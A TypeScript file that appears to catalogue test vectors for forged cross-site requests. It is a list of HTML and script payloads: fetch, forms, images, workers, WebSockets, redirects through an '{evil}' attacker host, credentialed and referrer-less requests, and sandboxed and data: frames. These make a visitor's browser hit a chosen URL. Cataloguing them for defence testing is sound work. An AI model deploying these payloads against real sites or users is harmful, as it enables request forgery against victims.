/** A way for a web page to make its visitor's browser send a request to somewhere else. */
export interface Vector {
  readonly name: string
  /** HTML of the page; `{url}` stands for where the request should go, `{evil}` for the attacker's own server. */
  readonly html: string
  /** Whether browsers offer it in secure contexts only. */
  readonly secureOnly?: boolean
}

function script(name: string, source: string): Vector {
  return { name, html: `<script>${source}</script>` }
}

function form(name: string, attributes: string, submitted = 'document.forms[0].submit()'): Vector {
  return {
    name,
    html: `<iframe name="inside"></iframe><form action="{url}" target="inside" ${attributes}>
           <input name="a" value="b"></form><script>${submitted}</script>`,
  }
}

function worker(source: string): string {
  return `URL.createObjectURL(new Blob([${JSON.stringify(source)}]))`
}

export const VECTORS: readonly Vector[] = [
  script('fetch', `fetch('{url}')`),
  script('fetch no-cors', `fetch('{url}', { mode: 'no-cors' })`),
  script('fetch with credentials', `fetch('{url}', { credentials: 'include' })`),
  script('fetch without referrer', `fetch('{url}', { mode: 'no-cors', referrerPolicy: 'no-referrer' })`),
  script('fetch HEAD', `fetch('{url}', { method: 'HEAD', mode: 'no-cors' })`),
  script('fetch with a header', `fetch('{url}', { headers: { 'X-Custom': '1' } })`),
  script('fetch with Authorization', `fetch('{url}', { headers: { Authorization: 'Bearer stand-in' } })`),
  script('fetch POST text', `fetch('{url}', { method: 'POST', mode: 'no-cors', body: '{"a":1}' })`),
  script('fetch POST form', `fetch('{url}', { method: 'POST', mode: 'no-cors', body: new FormData() })`),
  script(
    'fetch POST JSON',
    `fetch('{url}', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' })`,
  ),
  script('fetch PUT', `fetch('{url}', { method: 'PUT', body: '{}' })`),
  script('fetch DELETE', `fetch('{url}', { method: 'DELETE' })`),
  script(
    'fetch keepalive',
    `fetch('{url}', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'a' }); location = 'about:blank'`,
  ),
  script('fetch redirected', `fetch('{evil}/redirect/302?{url}', { mode: 'no-cors' })`),
  script(
    'fetch POST redirected',
    `fetch('{evil}/redirect/307?{url}', { method: 'POST', mode: 'no-cors', body: 'a' })`,
  ),
  script('XHR', `const x = new XMLHttpRequest(); x.open('GET', '{url}'); x.send()`),
  script('XHR POST', `const x = new XMLHttpRequest(); x.open('POST', '{url}'); x.send('a')`),
  script(
    'XHR with credentials',
    `const x = new XMLHttpRequest(); x.open('GET', '{url}'); x.withCredentials = true; x.send()`,
  ),
  script(
    'XHR upload',
    `const x = new XMLHttpRequest(); x.open('POST', '{url}'); x.upload.onprogress = () => 0; x.send('a')`,
  ),
  script('sendBeacon', `navigator.sendBeacon('{url}', 'a')`),
  script('sendBeacon form', `navigator.sendBeacon('{url}', new URLSearchParams('a=b'))`),
  form('form GET', ''),
  form('form POST', 'method="post"'),
  form('form POST multipart', 'method="post" enctype="multipart/form-data"'),
  form('form POST text', 'method="post" enctype="text/plain"'),
  form('form POST without referrer', 'method="post" rel="noreferrer"'),
  form(
    'form in a new window',
    'method="post"',
    `document.forms[0].target = '_blank'; document.forms[0].submit()`,
  ),
  form('form at the top', 'method="post"', `document.forms[0].target = '_top'; document.forms[0].submit()`),
  { name: 'img', html: '<img src="{url}">' },
  { name: 'img without referrer', html: '<img src="{url}" referrerpolicy="no-referrer">' },
  { name: 'img with credentials', html: '<img src="{url}" crossorigin="use-credentials">' },
  { name: 'img srcset', html: '<img srcset="{url} 1x">' },
  { name: 'picture', html: '<picture><source srcset="{url}"><img></picture>' },
  { name: 'input image', html: '<input type="image" src="{url}">' },
  { name: 'svg image', html: '<svg><image href="{url}" width="9" height="9"/></svg>' },
  { name: 'body background', html: '<body background="{url}">x</body>' },
  { name: 'script', html: '<script src="{url}"></script>' },
  { name: 'script module', html: '<script type="module" src="{url}"></script>' },
  script('import()', `import('{url}')`),
  { name: 'stylesheet', html: '<link rel="stylesheet" href="{url}">' },
  { name: '@import', html: '<style>@import "{url}";</style>' },
  { name: 'CSS url()', html: '<style>body { background: url("{url}") }</style>x' },
  { name: 'CSS mask', html: '<style>body { mask-image: url("{url}") }</style>x' },
  {
    name: 'font',
    html: '<style>@font-face { font-family: f; src: url("{url}") } p { font-family: f }</style><p>x',
  },
  { name: 'preload', html: '<link rel="preload" as="image" href="{url}">' },
  { name: 'modulepreload', html: '<link rel="modulepreload" href="{url}">' },
  { name: 'prefetch', html: '<link rel="prefetch" href="{url}">' },
  { name: 'iframe', html: '<iframe src="{url}"></iframe>' },
  { name: 'iframe without referrer', html: '<iframe src="{url}" referrerpolicy="no-referrer"></iframe>' },
  { name: 'frame', html: '<frameset><frame src="{url}"></frameset>' },
  { name: 'object', html: '<object data="{url}" type="text/html"></object>' },
  { name: 'embed', html: '<embed src="{url}" type="text/html">' },
  { name: 'video', html: '<video src="{url}" preload="auto"></video>' },
  { name: 'video poster', html: '<video poster="{url}"></video>' },
  { name: 'audio', html: '<audio src="{url}" preload="auto"></audio>' },
  {
    name: 'track',
    html: `<video crossorigin src="{evil}/nothing"><track default src="{url}"></video>
           <script>document.querySelector('track').track.mode = 'showing'</script>`,
  },
  script('EventSource', `new EventSource('{url}')`),
  script('EventSource with credentials', `new EventSource('{url}', { withCredentials: true })`),
  script('WebSocket', `new WebSocket('{url}'.replace('http', 'ws'))`),
  script('WebSocket of a protocol', `new WebSocket('{url}'.replace('http', 'ws'), ['graphql'])`),
  script('Worker importScripts', `new Worker(${worker(`importScripts('{url}')`)})`),
  script('Worker fetch', `new Worker(${worker(`fetch('{url}', { mode: 'no-cors' })`)})`),
  script('SharedWorker fetch', `new SharedWorker(${worker(`fetch('{url}', { mode: 'no-cors' })`)})`),
  {
    name: 'service worker',
    secureOnly: true,
    html: `<script>navigator.serviceWorker.register('{evil}/worker.js?{url}')</script>`,
  },
  script('location', `location = '{url}'`),
  script('window.open', `window.open('{url}')`),
  script('window.open without opener', `window.open('{url}', '_blank', 'noopener,noreferrer')`),
  script('window.open and then location', `window.open('about:blank').location = '{url}'`),
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url={url}">' },
  { name: 'meta refresh in a frame', html: '<iframe src="{evil}/refresh?{url}"></iframe>' },
  { name: 'link', html: `<a href="{url}">x</a><script>document.querySelector('a').click()</script>` },
  {
    name: 'link without referrer',
    html: `<a href="{url}" rel="noreferrer">x</a><script>document.querySelector('a').click()</script>`,
  },
  {
    name: 'link ping',
    html: `<a href="#" ping="{url}">x</a><script>document.querySelector('a').click()</script>`,
  },
  {
    name: 'download',
    html: `<a href="{url}" download>x</a><script>document.querySelector('a').click()</script>`,
  },
  {
    name: 'CSP report',
    html: `<meta http-equiv="refresh" content="0;url={evil}/reports?{url}">`,
  },
  {
    name: 'sandboxed frame: fetch',
    html: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('{url}')</script>"></iframe>`,
  },
  {
    name: 'sandboxed frame: POST',
    html: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('{url}',{method:'POST',mode:'no-cors',body:'a'})</script>"></iframe>`,
  },
  {
    name: 'sandboxed frame: form',
    html: `<iframe sandbox="allow-scripts allow-forms" srcdoc="<form method=post action='{url}'></form><script>document.forms[0].submit()</script>"></iframe>`,
  },
  { name: 'sandboxed frame: img', html: `<iframe sandbox srcdoc="<img src='{url}'>"></iframe>` },
  {
    name: 'data: frame: fetch',
    html: `<iframe src="data:text/html,<script>fetch('{url}')</script>"></iframe>`,
  },
  { name: 'data: frame: img', html: `<iframe src="data:text/html,<img src='{url}'>"></iframe>` },
  script(
    'blob: frame: img',
    `const f = document.createElement('iframe')
     f.src = window.URL.createObjectURL(new Blob(['<img src="{url}">'], { type: 'text/html' }))
     document.documentElement.append(f)`,
  ),
  script(
    'about:blank frame: fetch',
    `const f = document.createElement('iframe'); document.documentElement.append(f)
     f.contentWindow.fetch('{url}', { mode: 'no-cors' })`,
  ),
]
